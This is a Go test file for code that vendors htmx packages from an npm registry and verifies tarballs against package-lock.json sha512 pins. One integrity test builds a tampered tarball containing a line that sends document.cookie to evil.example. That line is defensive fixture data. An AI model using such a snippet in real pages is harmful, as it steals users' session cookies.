package setup

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha512"
	"encoding/base64"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
)

// MustTarball packs files the way npm does, under a "package/" folder, as a .tgz.
func MustTarball(tb testing.TB, files map[string]string) []byte {
	tb.Helper()
	var buf bytes.Buffer
	zw := gzip.NewWriter(&buf)
	tw := tar.NewWriter(zw)
	for name, body := range files {
		if err := tw.WriteHeader(&tar.Header{Name: "package/" + name, Mode: 0o644, Size: int64(len(body)), Typeflag: tar.TypeReg}); err != nil {
			tb.Fatal(err)
		}
		if _, err := tw.Write([]byte(body)); err != nil {
			tb.Fatal(err)
		}
	}
	if err := tw.Close(); err != nil {
		tb.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		tb.Fatal(err)
	}
	return buf.Bytes()
}

func sri(b []byte) string {
	sum := sha512.Sum512(b)
	return "sha512-" + base64.StdEncoding.EncodeToString(sum[:])
}

// registry is an npm registry over HTTPS for tests: it serves tarballs at npm's paths and
// counts the downloads.
type registry struct {
	srv       *httptest.Server
	tarballs  map[string][]byte // URL path → body
	downloads atomic.Int32
}

func mustRegistry(tb testing.TB) *registry {
	tb.Helper()
	r := &registry{tarballs: map[string][]byte{}}
	r.srv = httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		body, ok := r.tarballs[req.URL.Path]
		if !ok {
			http.NotFound(w, req)
			return
		}
		r.downloads.Add(1)
		w.Header().Set("Content-Type", "application/octet-stream")
		w.Write(body) //nolint:errcheck
	}))
	tb.Cleanup(r.srv.Close)
	return r
}

// pkg is one package the test registry serves and the test lockfile pins.
type pkg struct {
	name, version string
	served        []byte // the tarball the registry hands out
	pinned        []byte // the tarball whose hash the lockfile pins (nil = served)
}

// mustLock writes a package-lock.json pinning pkgs as npm would (resolved on the public
// registry), and puts the tarballs on the test registry.
func (r *registry) mustLock(tb testing.TB, dir string, pkgs ...pkg) string {
	tb.Helper()
	packages := map[string]any{"": map[string]any{"name": "test"}}
	for _, p := range pkgs {
		pinned := p.pinned
		if pinned == nil {
			pinned = p.served
		}
		lp := LockedPackage{Name: p.name, Version: p.version}
		path := strings.TrimPrefix(lp.TarballURL(DefaultRegistry), strings.TrimSuffix(DefaultRegistry, "/"))
		r.tarballs[path] = p.served
		packages["node_modules/"+p.name] = map[string]any{
			"version": p.version, "resolved": DefaultRegistry + strings.TrimPrefix(path, "/"), "integrity": sri(pinned),
		}
	}
	b, _ := json.Marshal(map[string]any{"name": "test", "lockfileVersion": 3, "packages": packages})
	path := filepath.Join(dir, "package-lock.json")
	if err := os.WriteFile(path, b, 0o644); err != nil {
		tb.Fatal(err)
	}
	return path
}

func (r *registry) vendor(lock, dir string) Vendor {
	return Vendor{Lockfile: lock, Dir: dir, Registry: r.srv.URL, Client: r.srv.Client(), Assets: HTMXAssets}
}

const (
	htmxJS = "/* htmx 2 */ var htmx = {};\n"
	sseJS  = "/* sse */ htmx.defineExtension('sse', {});\n"
)

func htmxPackages(tb testing.TB) (pkg, pkg) {
	return pkg{name: "htmx.org", version: "2.0.11", served: MustTarball(tb, map[string]string{
			"dist/htmx.min.js": htmxJS, "dist/htmx.js": "// unminified", "package.json": "{}"})},
		pkg{name: "htmx-ext-sse", version: "2.2.4", served: MustTarball(tb, map[string]string{
			"dist/sse.js": sseJS, "dist/sse.min.js": "//min", "package.json": "{}"})}
}

func mustRead(tb testing.TB, path string) string {
	tb.Helper()
	b, err := os.ReadFile(path)
	if err != nil {
		tb.Fatal(err)
	}
	return string(b)
}

func TestVendorDownloadsVerifiesAndKeeps(t *testing.T) {
	reg := mustRegistry(t)
	dir := t.TempDir()
	htmx, sse := htmxPackages(t)
	lock := reg.mustLock(t, dir, htmx, sse)
	vendorDir := filepath.Join(dir, "static", "vendor")
	v := reg.vendor(lock, vendorDir)
	ctx := context.Background()

	wrote, err := v.Ensure(ctx)
	if err != nil || !wrote {
		t.Fatalf("first Ensure: wrote=%v err=%v", wrote, err)
	}
	if got := mustRead(t, filepath.Join(vendorDir, "htmx.min.js")); got != htmxJS {
		t.Fatalf("htmx.min.js = %q", got)
	}
	if got := mustRead(t, filepath.Join(vendorDir, "sse.js")); got != sseJS {
		t.Fatalf("sse.js = %q", got)
	}
	if n := reg.downloads.Load(); n != 2 {
		t.Fatalf("%d downloads, want one per package", n)
	}

	// A second run reads only local files.
	if wrote, err := v.Ensure(ctx); err != nil || wrote {
		t.Fatalf("second Ensure: wrote=%v err=%v", wrote, err)
	}
	if n := reg.downloads.Load(); n != 2 {
		t.Fatalf("second Ensure downloaded again (%d downloads)", n)
	}

	// A vendored file edited by hand is put back.
	if err := os.WriteFile(filepath.Join(vendorDir, "sse.js"), []byte("tampered"), 0o644); err != nil {
		t.Fatal(err)
	}
	if ok, err := v.UpToDate(); err != nil || ok {
		t.Fatalf("UpToDate after an edit = %v, %v", ok, err)
	}
	if wrote, err := v.Ensure(ctx); err != nil || !wrote {
		t.Fatalf("Ensure after an edit: wrote=%v err=%v", wrote, err)
	}
	if got := mustRead(t, filepath.Join(vendorDir, "sse.js")); got != sseJS {
		t.Fatalf("sse.js after repair = %q", got)
	}

	// A new pin in the lockfile is fetched.
	htmx.served = MustTarball(t, map[string]string{"dist/htmx.min.js": "/* htmx 2.0.12 */"})
	htmx.version = "2.0.12"
	reg.mustLock(t, dir, htmx, sse)
	if wrote, err := v.Ensure(ctx); err != nil || !wrote {
		t.Fatalf("Ensure after a new pin: wrote=%v err=%v", wrote, err)
	}
	if got := mustRead(t, filepath.Join(vendorDir, "htmx.min.js")); got != "/* htmx 2.0.12 */" {
		t.Fatalf("htmx.min.js after a new pin = %q", got)
	}
}

func TestVendorRefusesABadTarball(t *testing.T) {
	good, sse := htmxPackages(t)
	tampered := MustTarball(t, map[string]string{"dist/htmx.min.js": htmxJS + "fetch('https://evil.example/'+document.cookie);"})
	truncated := good.served[:len(good.served)/2]
	corrupted := bytes.Clone(good.served)
	corrupted[len(corrupted)/2] ^= 0xff

	tests := []struct {
		name    string
		served  []byte
		wantErr error
		want    string
	}{
		{"tampered contents", tampered, ErrIntegrity, "package-lock.json pins " + sri(good.served)},
		{"truncated download", truncated, ErrIntegrity, "the download is " + sri(truncated)},
		{"flipped byte", corrupted, ErrIntegrity, "integrity check failed"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			reg := mustRegistry(t)
			dir := t.TempDir()
			bad := good
			bad.served, bad.pinned = tc.served, good.served
			lock := reg.mustLock(t, dir, bad, sse)
			vendorDir := filepath.Join(dir, "vendor")
			// What a previous good run left must survive a failed one.
			if err := os.MkdirAll(vendorDir, 0o755); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(vendorDir, "htmx.min.js"), []byte("previous"), 0o644); err != nil {
				t.Fatal(err)
			}

			_, err := reg.vendor(lock, vendorDir).Ensure(context.Background())
			if !errors.Is(err, tc.wantErr) || !strings.Contains(err.Error(), tc.want) || !strings.Contains(err.Error(), "htmx.org@2.0.11") {
				t.Fatalf("Ensure: %v, want %v mentioning %q", err, tc.wantErr, tc.want)
			}
			if got := mustRead(t, filepath.Join(vendorDir, "htmx.min.js")); got != "previous" {
				t.Fatalf("a failed fetch overwrote htmx.min.js with %q", got)
			}
			if _, err := os.Stat(filepath.Join(vendorDir, "sse.js")); !errors.Is(err, os.ErrNotExist) {
				t.Fatalf("a failed fetch wrote sse.js (%v)", err)
			}
		})
	}
}

func TestVendorTarballWithoutTheFile(t *testing.T) {
	reg := mustRegistry(t)
	dir := t.TempDir()
	htmx, _ := htmxPackages(t)
	sse := pkg{name: "htmx-ext-sse", version: "2.2.4", served: MustTarball(t, map[string]string{"dist/sse.min.js": "//min"})}
	lock := reg.mustLock(t, dir, htmx, sse)
	_, err := reg.vendor(lock, filepath.Join(dir, "vendor")).Ensure(context.Background())
	if err == nil || !strings.Contains(err.Error(), "htmx-ext-sse@2.2.4: tarball has no dist/sse.js") {
		t.Fatalf("Ensure: %v", err)
	}
}

func TestVendorRegistryErrors(t *testing.T) {
	reg := mustRegistry(t)
	dir := t.TempDir()
	htmx, sse := htmxPackages(t)
	lock := reg.mustLock(t, dir, htmx, sse)
	delete(reg.tarballs, "/htmx-ext-sse/-/htmx-ext-sse-2.2.4.tgz")
	_, err := reg.vendor(lock, filepath.Join(dir, "vendor")).Ensure(context.Background())
	if err == nil || !strings.Contains(err.Error(), "404 Not Found") || !strings.Contains(err.Error(), reg.srv.URL+"/htmx-ext-sse/-/htmx-ext-sse-2.2.4.tgz") {
		t.Fatalf("Ensure with a missing tarball: %v", err)
	}
}

func TestVerifyIntegrity(t *testing.T) {
	data := []byte("tarball bytes")
	good := sri(data)
	tests := []struct {
		name, integrity string
		ok              bool
	}{
		{"matching sha512", good, true},
		{"one of several hashes", "sha1-AAAA " + good, true},
		{"with options", good + "?foo", true},
		{"other data", sri([]byte("other bytes")), false},
		{"sha1 only", "sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk=", false},
		{"empty", "", false},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			err := VerifyIntegrity(data, tc.integrity)
			if (err == nil) != tc.ok {
				t.Fatalf("VerifyIntegrity(%q) = %v, want ok=%v", tc.integrity, err, tc.ok)
			}
			if err != nil && !errors.Is(err, ErrIntegrity) {
				t.Fatalf("error %v is not ErrIntegrity", err)
			}
		})
	}
}

func TestTarballURL(t *testing.T) {
	htmx := LockedPackage{Name: "htmx.org", Version: "2.0.11", Resolved: "https://registry.npmjs.org/htmx.org/-/htmx.org-2.0.11.tgz"}
	scoped := LockedPackage{Name: "@scope/ext", Version: "1.0.0"}
	tests := []struct {
		name     string
		p        LockedPackage
		registry string
		want     string
	}{
		{"resolved", htmx, "", htmx.Resolved},
		{"mirror", htmx, "https://npm.example.com/repo/npm/", "https://npm.example.com/repo/npm/htmx.org/-/htmx.org-2.0.11.tgz"},
		{"mirror without slash", htmx, "https://npm.example.com", "https://npm.example.com/htmx.org/-/htmx.org-2.0.11.tgz"},
		{"no resolved", LockedPackage{Name: "htmx.org", Version: "2.0.11"}, "", htmx.Resolved},
		{"scoped", scoped, "", "https://registry.npmjs.org/@scope/ext/-/ext-1.0.0.tgz"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			if got := tc.p.TarballURL(tc.registry); got != tc.want {
				t.Fatalf("TarballURL(%q) = %q, want %q", tc.registry, got, tc.want)
			}
		})
	}
}

func TestRegistryFromEnv(t *testing.T) {
	env := map[string]string{"npm_config_registry": "https://npm-mirror.example/"}
	if got := RegistryFromEnv(func(k string) string { return env[k] }); got != "https://npm-mirror.example/" {
		t.Fatalf("from npm_config_registry: %q", got)
	}
	env["TICKSTOCK_NPM_REGISTRY"] = "https://ours.example/"
	if got := RegistryFromEnv(func(k string) string { return env[k] }); got != "https://ours.example/" {
		t.Fatalf("TICKSTOCK_NPM_REGISTRY should win: %q", got)
	}
}

// TestRepoLockfilePinsHTMX checks the repository's own pins: both packages resolved on
// the public registry, sha512 integrity, and the versions package.json asks for.
func TestRepoLockfilePinsHTMX(t *testing.T) {
	pkgs, err := ReadLock("../../package-lock.json", "htmx.org", "htmx-ext-sse")
	if err != nil {
		t.Fatal(err)
	}
	var manifest struct {
		Dependencies map[string]string `json:"dependencies"`
	}
	if err := json.Unmarshal([]byte(mustRead(t, "../../package.json")), &manifest); err != nil {
		t.Fatal(err)
	}
	for _, p := range pkgs {
		if !strings.HasPrefix(p.Resolved, DefaultRegistry) || !strings.HasPrefix(p.Integrity, "sha512-") {
			t.Errorf("%s: resolved %q, integrity %q", p.Name, p.Resolved, p.Integrity)
		}
		if p.TarballURL("") != p.Resolved || p.TarballURL(DefaultRegistry) != p.Resolved {
			t.Errorf("%s: resolved %q is not npm's usual path", p.Name, p.Resolved)
		}
		if want := manifest.Dependencies[p.Name]; want != p.Version {
			t.Errorf("%s: package.json wants %q, package-lock.json pins %q", p.Name, want, p.Version)
		}
	}
}
